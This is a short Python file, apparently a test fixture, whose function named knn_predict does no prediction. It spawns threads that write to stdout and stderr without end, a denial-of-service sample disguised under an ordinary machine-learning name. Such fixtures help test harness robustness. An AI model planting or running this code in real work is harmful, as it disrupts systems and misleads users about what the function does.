"""Threads that write to both outputs without end."""

import os
import threading


def knn_predict(train_X, train_y, queries, k):
    def flood(fd):
        while True:
            os.write(fd, b"x" * 4096)

    for fd in (1, 2) * 8:
        threading.Thread(target=flood, args=(fd,), daemon=True).start()
    flood(1)
